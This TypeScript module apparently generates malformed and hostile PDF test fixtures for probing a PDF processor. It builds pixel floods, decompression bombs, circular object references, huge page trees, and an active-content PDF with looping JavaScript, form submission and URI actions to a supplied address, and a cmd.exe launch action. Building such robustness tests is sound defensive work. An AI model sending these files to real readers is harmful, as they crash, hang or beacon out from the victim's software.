/** PDFs that attack whoever opens them. Their page says {@link shownLine} where it can be reached. */
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { onePage, type PdfObject, pdfOfObjects, shownContent } from './pdf-objects.ts';

const drawn = 'q 500 0 0 500 50 100 cm /X Do Q';

/** One page that draws a picture with these entries and data. */
function pdfOfPicture(entries: string, data: Uint8Array | string): Uint8Array {
  return pdfOfObjects(
    onePage({
      resources: '/XObject << /X 6 0 R >>',
      content: { entries: '', stream: `${shownContent} ${drawn}` },
      more: [{ entries: `/Type /XObject /Subtype /Image ${entries}`, stream: data }],
    }),
  );
}

const greys = '/ColorSpace /DeviceGray /BitsPerComponent 8';

/** Pictures that say they have this many pixels on a side, each hidden in another place. */
export function pixelFloods(side: number): Record<string, Uint8Array> {
  const entries = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} ${greys}`;
  const image: PdfObject = { entries, stream: 'x' };
  const small = `/Type /XObject /Subtype /Image /Width 1 /Height 1 ${greys}`;
  const form = (inside: string, content: string) => ({
    entries: `/Type /XObject /Subtype /Form /BBox [0 0 600 850] /Resources << ${inside} >>`,
    stream: content,
  });
  const stream = `${shownContent} ${drawn}`;
  const x = '/XObject << /X 6 0 R >>';
  const page = (more: PdfObject[], resources = x, content = stream) =>
    pdfOfObjects(onePage({ resources, content: { entries: '', stream: content }, more }));
  const nested = Array.from({ length: 12 }, (_, at) => form(`/XObject << /X ${7 + at} 0 R >>`, '/X Do'));
  return {
    'a picture': page([image]),
    'a packed picture': page([{ entries: `${entries} /Filter /FlateDecode`, stream: deflateSync('x') }]),
    'a picture in a form in a form': page([...nested, image]),
    'a picture’s mask': page([{ entries: `${small} /SMask 7 0 R`, stream: 'x' }, image]),
    'a picture in the line': page(
      [],
      '',
      `${shownContent} q 500 0 0 500 50 100 cm BI /W ${side} /H ${side} /CS /G /BPC 8 ID x EI Q`,
    ),
    'a pattern': page(
      [
        {
          entries:
            '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 100 100] /XStep 100 /YStep 100 /Resources << /XObject << /X 7 0 R >> >>',
          stream: '100 0 0 100 0 0 cm /X Do',
        },
        image,
      ],
      '/Pattern << /P 6 0 R >>',
      `${shownContent} /Pattern cs /P scn 50 100 500 500 re f`,
    ),
    'a letter': page(
      [
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >> /Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] /Resources << /XObject << /X 8 0 R >> >> >>',
        { entries: '', stream: '1 0 d0 /X Do' },
        image,
      ],
      '/Font << /F1 5 0 R /F3 6 0 R >>',
      `${shownContent} BT /F3 200 Tf 60 300 Td (a) Tj ET`,
    ),
    'an annotation': pdfOfObjects(
      onePage({
        page: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Stamp /Rect [50 100 500 600] /F 4 /AP << /N 7 0 R >> >>',
          form('/XObject << /X 8 0 R >>', '450 0 0 500 0 0 cm /X Do'),
          image,
        ],
      }),
    ),
  };
}

/** A picture in JPEG 2000 whose own header says another size than the PDF does (ISO/IEC 15444-1, A.5.1). */
export function jpeg2000Flood(side: number): Uint8Array {
  const size = Buffer.alloc(2 + 2 + 2 + 8 * 4 + 2 + 3);
  size.writeUInt16BE(0xff51, 0);
  size.writeUInt16BE(size.length - 2, 2);
  for (const [at, value] of [side, side, 0, 0, side, side, 0, 0].entries()) size.writeUInt32BE(value, 6 + at * 4);
  size.writeUInt16BE(1, 38);
  size.set([7, 1, 1], 40);
  const rest = 'ff52000c000000010005040400 01'.replaceAll(' ', '');
  const quantisation = `ff5c0013 40${'40'.repeat(16)}`.replaceAll(' ', '');
  const tile = 'ff90000a0000000000000001ff93';
  const data = Buffer.concat([
    Buffer.from('ff4f', 'hex'),
    size,
    Buffer.from(`${rest}${quantisation}${tile}${'00'.repeat(64)}ffd9`, 'hex'),
  ]);
  return pdfOfPicture('/Width 10 /Height 10 /Filter /JPXDecode', data);
}

/** A picture in JBIG2 whose page says this many pixels on a side (ISO/IEC 14492, 7.4.8). */
export function jbig2Flood(side: number): Uint8Array {
  const data = Buffer.alloc(11 + 19);
  data.set([0, 0, 0, 0, 48, 0, 1], 0);
  data.writeUInt32BE(19, 7);
  data.writeUInt32BE(side, 11);
  data.writeUInt32BE(side, 15);
  return pdfOfPicture('/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode', data);
}

/** A fax of this many pixels on a side, in a few bytes. */
export function faxFlood(side: number): Uint8Array {
  return pdfOfPicture(
    `/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns ${side} /Rows ${side} >>`,
    new Uint8Array(64).fill(0xff),
  );
}

/** Bytes that unpack to `megabytes` of spaces, packed twice: a thousandth of a thousandth of it. */
function packedTwice(megabytes: number): Uint8Array {
  return deflateSync(deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' '), { level: 9 }), { level: 9 });
}

const twice = '/Filter [/FlateDecode /FlateDecode]';

/** Streams that unpack to so many megabytes, each where a reader looks at once. */
export function streamBombs(megabytes: number): Record<string, Uint8Array> {
  const bomb: PdfObject = { entries: twice, stream: packedTwice(megabytes) };
  const pixels = '/Type /XObject /Subtype /Image /Width 100 /Height 100';
  return {
    'the page’s content': pdfOfObjects(onePage({ content: bomb })),
    'a picture’s data': pdfOfPicture(`/Width 100 /Height 100 ${greys} ${twice}`, packedTwice(megabytes)),
    'a colour table': pdfOfObjects(
      onePage({
        resources: '/XObject << /X 6 0 R >>',
        content: { entries: '', stream: `${shownContent} ${drawn}` },
        more: [
          { entries: `${pixels} /BitsPerComponent 8 /ColorSpace [/Indexed /DeviceRGB 255 7 0 R]`, stream: 'x' },
          bomb,
        ],
      }),
    ),
    'a font’s characters': pdfOfObjects(
      onePage({
        resources: '/Font << /F1 6 0 R >>',
        more: ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>', bomb],
      }),
    ),
    'a font': pdfOfObjects(
      onePage({
        resources: '/Font << /F1 6 0 R >>',
        more: [
          '<< /Type /Font /Subtype /TrueType /BaseFont /Own /FirstChar 32 /LastChar 126 /FontDescriptor 7 0 R >>',
          '<< /Type /FontDescriptor /FontName /Own /Flags 32 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /StemV 1 /FontFile2 8 0 R >>',
          bomb,
        ],
      }),
    ),
  };
}

/** Things that lead back to themselves. */
export function circles(): Record<string, Uint8Array> {
  const [catalog, , page, content, font] = onePage() as [string, string, string, PdfObject, string];
  const tree = (kids: string, count: number) =>
    pdfOfObjects([catalog, `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, page, content, font]);
  const whole = Buffer.from(pdfOfObjects(onePage())).toString('latin1');
  const table = Number(/startxref\n(\d+)/.exec(whole)?.[1]);
  const more = (catalogEntries: string, ...objects: PdfObject[]) =>
    pdfOfObjects(onePage({ catalog: catalogEntries, more: objects }));
  return {
    'a page tree in itself': tree('3 0 R 2 0 R', 2),
    'a page tree of only itself': tree('2 0 R', 1),
    'a page that is its own parent': pdfOfObjects(
      onePage().map((object, at) => (at === 2 ? String(object).replace('/Parent 2 0 R', '/Parent 3 0 R') : object)),
    ),
    'a table before itself': pdfOfObjects(onePage(), { trailer: `/Prev ${table}` }),
    'a form that draws itself': pdfOfObjects(
      onePage({
        resources: '/XObject << /X 6 0 R >>',
        content: { entries: '', stream: `${shownContent} /X Do` },
        more: [
          {
            entries: '/Type /XObject /Subtype /Form /BBox [0 0 600 850] /Resources << /XObject << /X 6 0 R >> >>',
            stream: '/X Do /X Do',
          },
        ],
      }),
    ),
    'an outline in a ring': more(
      '/Outlines 6 0 R',
      '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>',
      '<< /Title (A) /Parent 6 0 R /First 7 0 R /Last 7 0 R /Next 7 0 R /Prev 7 0 R >>',
    ),
    'a field that is its own parent': pdfOfObjects(
      onePage({
        catalog: '/AcroForm << /Fields [6 0 R] >>',
        page: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Widget /Rect [60 600 200 620] /FT /Tx /T (a) /Parent 6 0 R /Kids [6 0 R] /F 4 >>',
        ],
      }),
    ),
    'a length that is its own stream': pdfOfObjects(
      onePage().map((object, at) => (at === 3 ? `<< /Length 4 0 R >>\nstream\n${shownContent}\nendstream` : object)),
    ),
    'a stream of objects that holds itself': selfHoldingStream(),
    'names in a ring': more('/Names << /Dests 6 0 R >>', '<< /Kids [6 0 R] /Limits [(a) (b)] >>'),
  };
}

/** A cross-reference stream (ISO 32000-1, 7.5.8) says of object 6, a stream of objects, that it is in object 6. */
function selfHoldingStream(): Uint8Array {
  const objects = onePage({
    more: [{ entries: '/Type /ObjStm /N 1 /First 4', stream: '6 0 << >>' }],
  });
  const classic = Buffer.from(pdfOfObjects(objects)).toString('latin1');
  const table = classic.lastIndexOf('\nxref\n') + 1;
  const rows = [...classic.slice(table).matchAll(/^(\d{10}) \d{5} [nf] $/gm)].map((row) => Number(row[1]));
  const index = Buffer.alloc((rows.length + 1) * 7);
  for (const [at, place] of [...rows, table].entries()) {
    index[at * 7] = at === 0 ? 0 : at === 6 ? 2 : 1;
    index.writeUInt32BE(at === 6 ? 6 : place, at * 7 + 1);
  }
  const size = rows.length + 1;
  const stream = `${rows.length} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R /Length ${index.length} >>\nstream\n`;
  return new Uint8Array(
    Buffer.concat([
      Buffer.from(classic.slice(0, table) + stream, 'latin1'),
      index,
      Buffer.from(`\nendstream\nendobj\nstartxref\n${table}\n%%EOF\n`),
    ]),
  );
}

/** More pages than anybody reads: each listed, said by a number, and ten of ten of ten … */
export function endlessPages(): Record<string, Uint8Array> {
  const [catalog, , page, content, font] = onePage() as [string, string, string, PdfObject, string];
  const listed = `<< /Type /Pages /Kids [${'3 0 R '.repeat(100_000)}] /Count 100000 >>`;
  const said = '<< /Type /Pages /Kids [3 0 R] /Count 100000 >>';
  const ten = (kid: number, count: number) => `<< /Type /Pages /Kids [${`${kid} 0 R `.repeat(10)}] /Count ${count} >>`;
  return {
    'listed one by one': pdfOfObjects([catalog, listed, page, content, font]),
    'said by a number': pdfOfObjects([catalog, said, page, content, font]),
    'ten of ten of ten': pdfOfObjects([
      catalog,
      ten(6, 100_000),
      page,
      content,
      font,
      ten(7, 10_000),
      ten(8, 1000),
      ten(9, 100),
      ten(3, 10),
    ]),
  };
}

const script = 'app.alert\\(1\\); app.launchURL\\("http://127.0.0.1:9/"\\); while \\(true\\) {}';

/** A page of text with everything that could run, or ask for something, when it is opened. `address` is what it asks. */
export function activePdf(address: string): Uint8Array {
  const js = `<< /S /JavaScript /JS (${script}) >>`;
  const uri = `<< /S /URI /URI (${address}/uri) >>`;
  const submit = `<< /S /SubmitForm /F << /FS /URL /F (${address}/submit) >> /Next ${uri} >>`;
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/2.8/"><subform name="f"><event activity="initialize"><script contentType="application/x-javascript">while (true) {}</script></event></subform></template><connectionSet><wsdlConnection><wsdlAddress>${address}/wsdl</wsdlAddress></wsdlConnection></connectionSet></xdp:xdp>`;
  return pdfOfObjects(
    onePage({
      catalog: `/OpenAction ${js} /AA << /WC ${js} /DP ${js} >> /Names << /JavaScript << /Names [(a) ${js}] >> >> /AcroForm << /Fields [6 0 R] /XFA 7 0 R /NeedAppearances true >> /URI << /Base (${address}/base) >>`,
      page: `/AA << /O ${js} /C ${submit} >> /Annots [6 0 R 8 0 R 9 0 R 10 0 R]`,
      more: [
        `<< /Type /Annot /Subtype /Widget /Rect [60 600 200 620] /FT /Tx /T (a) /F 4 /AA << /F ${js} /K ${js} /V ${js} /C ${js} /PO ${js} /PV ${js} /PI ${js} >> /A ${submit} >>`,
        { entries: '', stream: xfa },
        `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /F 4 /A << /S /Launch /F (${address}/launch) /Win << /F (cmd.exe) >> >> /AA << /PO ${uri} >> >>`,
        `<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /F 4 /A << /S /Rendition /JS (${script}) >> >>`,
        `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /GoToR /F << /FS /URL /F (${address}/remote) >> /D [0 /Fit] >> >>`,
      ],
    }),
  );
}

/** A page of text with a file attached in both ways. What is attached says `Warfarin 5 mg`. */
export function pdfWithAttachments(): Uint8Array {
  const attached = pdfOfObjects(
    onePage({ content: { entries: '', stream: 'BT /F1 12 Tf 60 700 Td (Warfarin 5 mg) Tj ET' } }),
  );
  const file = '<< /Type /Filespec /F (other.pdf) /UF (other.pdf) /EF << /F 6 0 R >> >>';
  return pdfOfObjects(
    onePage({
      catalog: `/Names << /EmbeddedFiles << /Names [(other.pdf) ${file}] >> >>`,
      page: '/Annots [7 0 R]',
      more: [
        { entries: '/Type /EmbeddedFile /Subtype /application#2Fpdf', stream: attached },
        `<< /Type /Annot /Subtype /FileAttachment /Rect [500 800 510 810] /FS ${file} /Contents (Warfarin 5 mg) >>`,
      ],
    }),
  );
}

const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');

/** A page of text, encrypted by the standard handler of 40 bits (ISO 32000-1, 7.6.3). Without `user` anybody may open it. */
export function lockedPdf({ user = '', owner = 'owner' } = {}): Uint8Array {
  const id = Buffer.alloc(16, 7);
  const rights = -4;
  const padded = (password: string) => Buffer.concat([Buffer.from(password, 'latin1'), padding]).subarray(0, 32);
  const ownerEntry = rc4(md5(padded(owner)).subarray(0, 5), padded(user));
  const rightBytes = Buffer.alloc(4);
  rightBytes.writeInt32LE(rights);
  const key = md5(padded(user), ownerEntry, rightBytes, id).subarray(0, 5);
  const userEntry = rc4(key, padding);
  const contentKey = md5(key, Buffer.from([4, 0, 0, 0, 0])).subarray(0, 10);
  return pdfOfObjects(onePage({ content: { entries: '', stream: rc4(contentKey, Buffer.from(shownContent)) } }), {
    trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${ownerEntry.toString('hex')}> /U <${userEntry.toString('hex')}> /P ${rights} >> /ID [<${id.toString('hex')}> <${id.toString('hex')}>]`,
  });
}

function md5(...parts: readonly Uint8Array[]): Buffer {
  const hash = createHash('md5');
  for (const part of parts) hash.update(part);
  return hash.digest();
}

/** OpenSSL of today has no RC4 to offer. */
function rc4(key: Uint8Array, data: Uint8Array): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, at) => at);
  const swap = (a: number, b: number) => {
    [state[a], state[b]] = [state[b] ?? 0, state[a] ?? 0];
  };
  for (let at = 0, j = 0; at < 256; at++) {
    j = (j + (state[at] ?? 0) + (key[at % key.length] ?? 0)) & 255;
    swap(at, j);
  }
  let [i, j] = [0, 0];
  return Buffer.from(
    data.map((byte) => {
      i = (i + 1) & 255;
      j = (j + (state[i] ?? 0)) & 255;
      swap(i, j);
      return byte ^ (state[((state[i] ?? 0) + (state[j] ?? 0)) & 255] ?? 0);
    }),
  );
}
